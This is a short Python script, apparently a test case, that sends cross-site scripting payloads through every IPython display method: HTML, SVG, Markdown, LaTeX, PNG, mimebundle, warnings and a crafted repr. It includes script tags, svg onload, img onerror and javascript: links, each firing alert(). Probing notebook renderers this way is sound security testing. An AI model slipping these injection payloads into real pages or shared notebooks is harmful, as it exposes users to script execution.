# aim: run a script through every way in which IPython shows a thing
# task: share  points: 0
# lines: 69
import warnings

from IPython.display import HTML, SVG, Latex, Markdown, display

attack = "<svg onload=alert(1)><script>alert(2)</script></svg>"


class Rich:
    _repr_html_ = _repr_svg_ = _repr_markdown_ = _repr_latex_ = _repr_javascript_ = lambda self: attack
    _repr_png_ = lambda self: attack.encode()
    _repr_mimebundle_ = lambda self, **_: {"text/html": attack, "text/plain": attack, "image/png": attack}
    __repr__ = lambda self: "</pre></details>" + attack + "[x](javascript:alert(3)) ![](x onerror=alert(4))"


display(Rich(), Markdown(attack), Latex("$\\href{javascript:alert(5)}{x}$"), SVG(data=attack), {"image/png": "\"><script>"}, raw=False)
display({"image/png": "iVBORw0KGgo\"><script>alert(6)</script>", "text/html": attack}, raw=True)
warnings.warn(attack)
share = "`</code><script>` *</em><img src=x onerror=alert(7)>*"
limit = Rich()
memo = {"claim": attack, "limit": attack}
Rich()
